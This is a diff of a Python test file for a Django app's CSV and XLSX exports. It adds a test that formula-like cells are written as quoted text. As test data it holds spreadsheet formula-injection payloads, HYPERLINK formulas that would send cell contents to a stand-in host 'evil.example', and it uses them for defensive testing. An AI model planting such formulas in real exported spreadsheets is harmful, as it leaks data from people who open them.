@@ -4,10 +4,11 @@ import csv
 import io
 from decimal import Decimal
 
+import openpyxl
 import pytest
 from django.urls import reverse
 
-from hearth.core.exports import csv_writer, safe_cell
+from hearth.core.exports import csv_writer, safe_cell, xlsx_workbook
 from hearth.people.models import Person
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2,"Open record")'
@@ -53,3 +54,32 @@ def test_the_contacts_csv_export_shows_a_stored_formula_as_text(
     people = [row[1] for row in rows[1:]]
     assert f"'{HYPERLINK} Brook" in people
     assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+
+
+def test_the_xlsx_workbook_stores_a_formula_as_quoted_text_and_numbers_as_numbers():
+    """A cell "=HYPERLINK(...)" is written as text with its quote (never a formula cell);
+    numbers, negative and decimal ones, stay numbers; each sheet keeps its title."""
+    link = '=HYPERLINK("http://evil.example/?d="&A1, "Click")'
+    data = xlsx_workbook(
+        [
+            (
+                "f1_visits",
+                [
+                    ["label", "numerator", "value"],
+                    [link, 12, -2.5],
+                    ["@SUM(A1)", None, Decimal("97.2")],
+                ],
+            ),
+            ("bad: [title]?", [["a\x00b"]]),
+        ]
+    )
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    assert book.sheetnames == ["f1_visits", "bad- -title--"]
+    sheet = book["f1_visits"]
+    cell = sheet["A2"]
+    assert cell.data_type == "s" and cell.value == "'" + link
+    assert sheet["B2"].value == 12 and sheet["B2"].data_type == "n"
+    assert sheet["C2"].value == -2.5 and sheet["C2"].data_type == "n"
+    assert sheet["A3"].value == "'@SUM(A1)" and sheet["B3"].value is None
+    assert sheet["C3"].value == 97.2
+    assert book["bad- -title--"]["A1"].value == "a\ufffdb"  # no control character in the XML
